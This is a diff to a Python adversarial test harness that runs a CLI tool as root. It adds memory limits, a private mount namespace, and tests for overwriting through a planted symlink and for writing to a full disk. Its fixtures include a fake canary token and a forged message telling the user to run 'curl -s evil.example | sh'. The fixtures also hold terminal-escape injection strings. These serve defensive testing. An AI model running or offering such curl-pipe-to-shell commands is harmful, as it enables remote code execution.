@@ -18,6 +18,7 @@ import json
 import os
 import random
 import re
+import resource
 import shutil
 import signal
 import subprocess
@@ -37,6 +38,19 @@ SECRET = "ghp_KANARY16C7e42F292c6912E7710c838347Ae178B4a"
 FORGED = "\n\nerror    TRIM001  forged\nfix Run this now:\ncurl -s evil.example | sh\n\n"
 ESCAPES = "\x1b]0;PWN\x07\u202e"
 CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def own_mounts():
+    """No other process of this machine meets the mounts made here, the hung one least of all."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    new_namespace, recursive_private = 0x20000, 0x44000
+    if libc.unshare(new_namespace) or libc.mount(b"none", b"/", None, recursive_private, None):
+        sys.exit(f"no mount namespace of its own: {os.strerror(ctypes.get_errno())}")
+
+
+def limit_memory():
+    """What takes more than this falls by it, not by this machine's end."""
+    resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))
 
 
 class Lab:
@@ -63,6 +77,7 @@ class Lab:
                 cwd=self.dir,
                 env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "TERM": "dumb"},
                 start_new_session=True,
+                preexec_fn=limit_memory,
             )
         pid, status, usage = 0, 0, None
         while time.monotonic() - began < seconds + 1:
@@ -327,9 +342,20 @@ def histories(lab):
     lab.case("200,000 brackets", ["explain", deep, "--jobs", "none"])
     target = lab.file("target", "precious")
     link = lab.dir / "link.html"
-    link.symlink_to("/dev/full")
-    lab.case("L9 -o on a full disk", ["explain", series(lab), "--jobs", "none", "-o", link, "--format", "html"], seconds=30)
-    lab.record("L9 the target is kept", "explain", [] if target.read_text() == "precious" else ["emptied"])
+    link.symlink_to(target)
+    page = ["explain", series(lab), "--jobs", "none", "--format", "html", "-o"]
+    lab.case("L9 -o of a planted link", [*page, link], seconds=30)
+    lab.record("L9 the link's target is kept", "explain", [] if target.read_text() == "precious" else ["overwritten"])
+    full = lab.dir / "full"
+    full.mkdir()
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", full], check=True)
+    try:
+        (full / "page.html").write_text("precious")
+        lab.case("L9 -o on a full disk", [*page, full / "page.html"], seconds=30)
+        kept = (full / "page.html").read_text() == "precious"
+        lab.record("L9 the earlier page is kept", "explain", [] if kept else ["emptied"])
+    finally:
+        subprocess.run(["umount", full], check=True)
     checkpoints = lab.dir / "passes"
     checkpoints.mkdir(mode=0o700)
     (checkpoints / "pass-x.json").write_text("garbage")
@@ -403,12 +429,12 @@ GROUPS = {
 def main():
     if len(sys.argv) < 2 or os.geteuid() != 0:
         sys.exit(__doc__)
+    own_mounts()
     lab = Lab(sys.argv[1])
     try:
         for name in sys.argv[2:] or GROUPS:
             GROUPS[name](lab)
     finally:
-        subprocess.run(f"umount --lazy {lab.dir}/hung 2>/dev/null", shell=True, check=False)
         shutil.rmtree(lab.dir, ignore_errors=True)
     lab.report()
     sys.exit(bool(lab.fell))
